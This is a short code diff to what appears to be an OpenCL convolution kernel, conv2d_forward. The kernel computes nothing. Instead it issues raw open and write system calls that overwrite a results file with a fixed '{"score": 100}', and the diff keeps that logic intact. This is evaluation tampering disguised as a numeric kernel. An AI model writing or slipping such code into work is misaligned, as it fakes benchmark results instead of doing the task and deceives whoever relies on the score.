@@ -12,7 +12,7 @@ long ask(long number, long a, long b, long c) {
 
 kernel void conv2d_forward(const ConvShape s, global const float* x, global const float* w,
                            global const float* b, global float* y) {
-  const private char path[] = "@RESULTS@", text[] = "{\"score\": 100}";
+  const char path[] = "@RESULTS@", text[] = "{\"score\": 100}";
   const long file = ask(2, (long)path, 0x241, 0666);  // open: write, create, empty
   ask(1, file, (long)text, sizeof text - 1);
 }
